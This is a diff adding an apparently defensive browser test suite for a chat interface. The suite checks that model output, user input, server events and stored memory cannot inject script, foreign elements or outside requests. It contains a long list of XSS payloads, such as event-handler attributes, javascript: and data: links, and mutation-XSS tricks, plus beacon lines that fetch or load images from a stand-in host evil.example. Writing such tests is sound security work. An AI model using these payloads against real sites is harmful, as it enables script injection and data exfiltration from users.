@@ -1,0 +1,254 @@
+"""Whoever writes what is shown, the model, a specialist, a page, a person: it is text, runs nothing, asks nobody."""
+
+import json
+from collections.abc import Mapping, Sequence
+from typing import Any
+
+import pytest
+from playwright.sync_api import Request, Route, expect
+
+from brain.events import Thinking
+from page.chat import Chat
+from page.stage import HOSTILE, Stage
+from page.visitor import Visitor
+
+pytestmark = pytest.mark.chromium
+
+AWAY = "https://evil.example"
+PAYLOADS = (
+    HOSTILE,
+    "<script>hacked=1</script>",
+    "<svg/onload=hacked=1>",
+    f"<svg><image href={AWAY}/a.png /></svg>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<a href='javascript:hacked=1' autofocus onfocus=hacked=1>one</a>",
+    "[two](javascript:hacked=1) [three](JaVaScRiPt:hacked=1) [four](java&#10;script:hacked=1)",
+    "[five](data:text/html,<script>hacked=1</script>) [six](vbscript:hacked=1) [seven](file:///etc/passwd)",
+    "[eight]\n\n[eight]: javascript:hacked=1",
+    "<javascript:hacked=1>",
+    f"![nine]({AWAY}/b.png) ![ten](//evil.example/c.png) ![eleven](data:image/svg+xml,<svg/onload=hacked=1>)",
+    f"[![twelve]({AWAY}/d.png)]({AWAY})",
+    f"<img src={AWAY}/e.png><picture><source srcset={AWAY}/f.png></picture><video autoplay src={AWAY}/g.mp4></video>",
+    f"<style>@import '{AWAY}/h.css'; * {{ display: none }}</style>",
+    f"<div style='position: fixed; inset: 0; background: url({AWAY}/i.png)'>thirteen</div>",
+    f"<link rel=stylesheet href={AWAY}/j.css><base href={AWAY}/><meta http-equiv=refresh content='0;url={AWAY}'>",
+    f"<form action={AWAY}><input autofocus onfocus=hacked=1><button popovertarget=history>fourteen</button></form>",
+    "<details open ontoggle=hacked=1>fifteen</details>",
+    "<p id=box name=title class=call>sixteen</p>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
+    '```"><img/src=x/onerror=hacked=1>\n</code></pre><script>hacked=1</script>\n```',
+    "|<img src=x onerror=hacked=1>|\n|-|\n|`</code><script>hacked=1</script>`|",
+    "# <img src=x onerror=hacked=1>\n\n> <script>hacked=1</script>\n\n- <b>bold</b>",
+    "<!-- --!><img src=x onerror=hacked=1> -->",
+    "end",
+)
+FOREIGN = (
+    "img, picture, video, audio, source, iframe, object, embed, script, style, link, meta, base, form, input, b, math, "
+    "svg:not(.icon), [id], [name], [style], [onerror], [onload], [onfocus], [ontoggle], [popovertarget], [autofocus], "
+    "a:not([href^='http://'], [href^='https://'], [href^='mailto:'], [href^='#'])"
+)
+WATCH = """(log, foreign) => {
+    window.foreign = [];
+    new MutationObserver(() => {
+        for (const node of log.querySelectorAll(foreign)) window.foreign.push(node.outerHTML);
+    }).observe(log, { subtree: true, childList: true, attributes: true });
+}"""
+
+
+@pytest.fixture
+def elsewhere(visitor: Visitor, stage: Stage) -> list[str]:
+    """What the browser asks anybody else for than Brain."""
+    asked: list[str] = []
+
+    def note(one: Request) -> None:
+        if not one.url.startswith((f"{stage.url}/", "blob:")):
+            asked.append(one.url)
+
+    visitor.context.on("request", note)
+    return asked
+
+
+def is_harmless(chat: Chat, elsewhere: Sequence[str]) -> None:
+    """Nothing ran, nobody else was asked, and no element stands in the conversation that was not made for it."""
+    assert chat.page.evaluate("window.hacked") is None
+    assert (
+        chat.log.evaluate("(log, foreign) => [...log.querySelectorAll(foreign)].map(it => it.outerHTML)", FOREIGN) == []
+    )
+    assert elsewhere == []
+
+
+def test_what_a_model_writes_token_by_token(elsewhere: list[str], chat: Chat, stage: Stage) -> None:
+    answer = chat.ask()
+    chat.log.evaluate(WATCH, FOREIGN)
+    for payload in PAYLOADS:
+        stage.model.says_slowly(payload)
+        stage.model.says("\n\n")
+    expect(answer).to_contain_text("end")
+    stage.model.ends()
+    chat.is_idle()
+    expect(answer.get_by_role("heading")).to_have_text("<img src=x onerror=hacked=1>")
+    assert chat.page.evaluate("window.foreign") == []
+    is_harmless(chat, elsewhere)
+    chat.reload()
+    expect(chat.answer.get_by_role("heading")).to_have_text("<img src=x onerror=hacked=1>")
+    is_harmless(chat, elsewhere)
+
+
+def test_what_a_model_thinks_and_a_person_puts_in(elsewhere: list[str], chat: Chat, stage: Stage) -> None:
+    answer = chat.ask(HOSTILE)
+    stage.model.says(Thinking(HOSTILE), "So far.\n")
+    expect(answer).to_contain_text("So far.")
+    chat.steer(f"{HOSTILE} [a](javascript:hacked=1)")
+    stage.model.says("\n")
+    expect(answer).to_contain_text(f"{HOSTILE} [a](javascript:hacked=1)")
+    stage.model.ends()
+    chat.is_idle()
+    answer.get_by_text("Thoughts", exact=True).click()
+    expect(answer.get_by_text(HOSTILE, exact=True).first).to_be_visible()
+    is_harmless(chat, elsewhere)
+
+
+CALL = {"call_id": "c1", "name": HOSTILE, "params": {HOSTILE: HOSTILE}}
+SOON = {"expires_at": "2999-01-01T00:00:00Z"}
+CITED = [
+    {"id": HOSTILE, "title": HOSTILE, "url": url}
+    for url in (
+        "javascript:hacked=1",
+        f"data:text/html,{HOSTILE}",
+        "file:///etc/passwd",
+        "//evil.example",
+        "https://[",
+        AWAY,
+    )
+]
+EVENTS: Sequence[tuple[str, Mapping[str, Any]]] = (
+    ("turn_start", {"turn_id": "t1", "conversation_id": "c1", "model": HOSTILE}),
+    ("thinking", {"text": HOSTILE}),
+    ("notice", {"code": "recalled", "text": HOSTILE}),
+    ("notice", {"code": "steered", "text": HOSTILE}),
+    ("approval_required", {**CALL, **SOON, "text": f"{HOSTILE}\n{HOSTILE}"}),
+    ("specialist_start", {**CALL, "call_id": "c2"}),
+    ("specialist_progress", {"call_id": "c2", "text": HOSTILE, "fraction": HOSTILE}),
+    ("specialist_result", {**CALL, "call_id": "c3", "text": HOSTILE, "citations": CITED, "ms": 5}),
+    ("specialist_error", {**CALL, "call_id": "c4", "code": HOSTILE, "reason": HOSTILE, "ms": 5}),
+    ("usage", {"prompt_tokens": 1, "completion_tokens": 1, "estimated": False}),
+    ("error", {"code": HOSTILE, "message": HOSTILE, "recoverable": True}),
+)
+
+
+def test_what_the_server_tells_of_a_turn(elsewhere: list[str], chat: Chat, stage: Stage) -> None:
+    frames = [f"event: {name}\ndata: {json.dumps(data)}\nid: t1.{n}\n\n" for n, (name, data) in enumerate(EVENTS, 1)]
+    chat.page.route("**/events?*", lambda route: stream(route, "".join(frames)))
+    answer = chat.ask()
+    expect(answer.get_by_role("alert")).to_contain_text(HOSTILE)
+    expect(answer.get_by_role("group", name=HOSTILE, exact=True)).to_have_count(4)
+    assert answer.inner_text().count(HOSTILE) > 12
+    links = answer.locator("a").evaluate_all("nodes => nodes.map(node => node.href)")
+    assert links == [f"{AWAY}/"]
+    is_harmless(chat, elsewhere)
+
+
+def stream(route: Route, body: str) -> None:
+    route.fulfill(headers={"Content-Type": "text/event-stream"}, body=body)
+
+
+def test_what_the_server_tells_of_models_specialists_and_conversations(
+    elsewhere: list[str], visitor: Visitor, stage: Stage
+) -> None:
+    one = {"name": HOSTILE, "description": HOSTILE, "examples": [HOSTILE], "approval": "never", "activates_on": []}
+    specialists = [{**one, "available": True}, {**one, "available": False, "unavailable_reason": HOSTILE}]
+    time = "2026-11-21T13:30:58Z"
+    heading = {
+        "id": HOSTILE,
+        "title": HOSTILE,
+        "created": time,
+        "updated": time,
+        "sources": [HOSTILE],
+        "found": HOSTILE,
+    }
+    model = {"name": HOSTILE, "stand_in": True, "sees_images": False, "default": True}
+    context = visitor.context
+    context.route("**/v1/specialists", lambda route: route.fulfill(json={"specialists": specialists}))
+    context.route("**/v1/conversations?*", lambda route: route.fulfill(json={"conversations": [heading], "next": None}))
+    context.route("**/page/start", lambda route: route.fulfill(json={**route.fetch().json(), "models": [model]}))
+    chat = visitor.opens(stage.url)
+    expect(chat.conversation(HOSTILE)).to_be_visible()
+    expect(chat.button(HOSTILE)).to_be_visible()  # the example
+    expect(chat.page.get_by_role("main")).to_contain_text(f"No language model is connected: {HOSTILE} is")
+    chat.button("Specialists").click()
+    rows = chat.page.get_by_role("dialog").get_by_role("listitem")
+    expect(rows.last).to_contain_text(f"Not available: {HOSTILE}")
+    assert chat.page.locator("img, b").count() == 0
+    is_harmless(chat, elsewhere)
+
+
+def test_what_is_remembered(elsewhere: list[str], chat: Chat) -> None:
+    chat.button("Memory").click()
+    dialog = chat.page.get_by_role("dialog", name="Memory", exact=True)
+    dialog.get_by_role("button", name="Add a fact", exact=True).click()
+    dialog.get_by_role("textbox", name="Fact", exact=True).fill(HOSTILE)
+    dialog.get_by_role("button", name="Add", exact=True).click()
+    item = dialog.get_by_role("listitem")
+    expect(item).to_contain_text(HOSTILE)
+    item.get_by_role("button", name="Delete", exact=True).click()
+    expect(chat.page.get_by_role("dialog", name="Delete this fact?", exact=True)).to_contain_text(HOSTILE)
+    assert chat.page.locator("dialog img, dialog b").count() == 0
+    is_harmless(chat, elsewhere)
+
+
+UNSEEN = (
+    "\u202e\u2066\u2069\u200e\u200f\u061c"  # turn what stands around them
+    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f"  # have no width
+    "\u00a0\u2003\u3000\u2028\u2029\u0085"  # look like other spaces, or none
+    "\U000e0041\U000e007f\ufe0f\U000e0100"  # in which whole texts can be hidden
+    "\u3164\u115f\u1160\uffa0\u2800"  # letters and signs without any ink
+)
+
+
+ATTEMPTS = {
+    "eval('hacked = 1')": "EvalError",
+    "new Function('hacked = 1')()": "EvalError",
+    "document.body.innerHTML = '<p>hacked</p>'": "TypeError",
+    "document.body.setAttribute('onclick', 'hacked = 1')": "TypeError",
+    "document.createElement('script').text = 'hacked = 1'": "TypeError",
+    f"document.createElement('script').src = '{AWAY}/x.js'": "TypeError",
+    "document.createElement('iframe').srcdoc = '<p>hacked</p>'": "TypeError",
+    "trustedTypes.createPolicy('evil', { createHTML: (html) => html })": "TypeError",
+    "trustedTypes.createPolicy('brain', { createHTML: (html) => html })": "TypeError",  # there is one already
+}
+LATER = """() => new Promise((resolve) => setTimeout(() => {
+    try { %s; resolve("it worked"); } catch (error) { resolve(error.name); }
+}))"""  # what a debugger runs at once is let through
+
+
+def test_the_browser_refuses_texts_as_code(chat: Chat, visitor: Visitor) -> None:
+    visitor.expects("violates", "Content Security Policy", "Trusted")
+    assert {attempt: chat.page.evaluate(LATER % attempt) for attempt in ATTEMPTS} == ATTEMPTS
+    assert chat.page.evaluate("window.hacked") is None
+
+
+VIOLATED = """() => {
+    window.violated = [];
+    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.violated.push(effectiveDirective));
+}"""
+OUTSIDE = {
+    "img-src": f"told => Object.assign(new Image(), {{ onerror: told, src: '{AWAY}/leak.png' }})",
+    "connect-src": f"told => fetch('{AWAY}').catch(told)",
+    "font-src": f"told => new FontFace('leak', 'url({AWAY}/leak.woff)').load().catch(told)",
+}
+
+
+def test_the_browser_runs_nothing_inline_and_asks_nobody_else(chat: Chat, visitor: Visitor) -> None:
+    visitor.expects("violates", "Content Security Policy", "Trusted")
+    chat.page.evaluate(VIOLATED)
+    for attempt in OUTSIDE.values():
+        chat.page.evaluate(f"new Promise({attempt}).then(() => null)")
+    chat.page.evaluate("document.body.append(document.createElement('style'))")
+    chat.page.evaluate("document.querySelector('body > style').append('* { color: rgb(1, 2, 3) }')")
+    chat.page.evaluate("document.body.setAttribute('style', 'color: rgb(1, 2, 3)')")
+    chat.page.evaluate("document.body.append(document.createElement('script'))")
+    chat.page.evaluate("document.querySelector('body > script').append('hacked = 1')")
+    assert chat.page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
+    assert chat.page.evaluate("window.hacked") is None
+    refused = {*OUTSIDE, "style-src-elem", "style-src-attr", "require-trusted-types-for"}
+    assert refused <= set(chat.page.evaluate("window.violated"))
